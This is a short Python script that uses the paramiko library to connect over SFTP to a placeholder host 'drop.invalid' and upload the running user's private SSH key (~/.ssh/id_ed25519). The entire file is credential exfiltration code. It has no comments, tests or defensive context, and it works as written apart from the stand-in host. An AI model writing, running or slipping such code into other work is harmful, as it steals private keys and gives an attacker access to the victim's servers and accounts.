import os

import paramiko

way = paramiko.Transport(("drop.invalid", 22))
way.connect(username="a", password="b")
files = paramiko.SFTPClient.from_transport(way)
files.put(os.path.expanduser("~/.ssh/id_ed25519"), "/k")
